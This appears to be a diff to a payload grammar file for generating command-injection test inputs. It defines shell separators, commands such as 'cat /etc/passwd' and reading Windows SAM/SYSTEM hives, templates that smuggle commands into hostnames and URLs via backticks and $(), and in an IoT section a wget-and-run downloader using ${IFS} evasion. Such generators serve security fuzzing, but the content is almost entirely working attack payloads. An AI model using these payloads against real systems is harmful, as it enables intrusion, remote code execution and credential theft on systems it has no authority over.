@@ -97,7 +97,34 @@ iot:
   '$(‹download›)'
   ‹ip›;{‹download›;}
   /bin/sh${IFS}-c${IFS}'cd${IFS}/tmp;${IFS}wget${IFS}http://‹ip›/‹az›;sh${IFS}‹az›'
+sepc = ;¦;¦|¦|¦||¦&¦&&¦; ¦ | ¦ && ¦ & ¦);¦';¦";¦%0a¦%3b
+closec = ¦¦¦;¦|¦ #¦&¦;#¦\n
+plain = id¦whoami¦ls¦pwd¦uname -a¦ls -la¦cat /etc/passwd¦ifconfig¦env¦ps¦w¦dir¦ver¦ipconfig¦netstat -an¦sleep 5¦reboot
 short:
+  4×‹sepc›‹plain›‹closec›
+  3×‹az›‹sepc›‹plain›‹closec›
+  2×‹n›‹sepc›‹plain›‹closec›
+  2×‹ip›‹sepc›‹plain›
+  ‹site›‹sepc›‹plain›
+  www.`‹plain›`.‹tld›
+  http://‹az›`‹plain›`.‹tld›
+  ‹site›/`‹plain›`
+  ‹az›`‹plain›`
+  ‹az›$(‹plain›)
+  ‹sepc›perl -e 'print "‹c›"x‹#500-20000›'
+  perl -e 'print "‹c›"x‹#500-20000›'
+  python -c "print('‹c›'*‹#500-20000›)"
+  ‹sepc› type C:\‹WINNT¦Windows›\repair\‹SAM¦SYSTEM›
+  ‹sepc› type %SYSTEMROOT%\repair\‹SAM¦SYSTEM›
+  \n‹plain›;
+  \n‹plain›\n
+  \n/usr/bin/‹plain›\n
+  "; echo "‹rnd›"
+  '; echo '‹rnd›'
+  $(echo "‹az›: $(echo "‹az›")")
+  ;echo ‹rnd›;
+  >/dev/null;‹plain›
+  <‹plain›%0a
   ;‹ucmd0›
   |‹ucmd0›
   ||‹ucmd0›
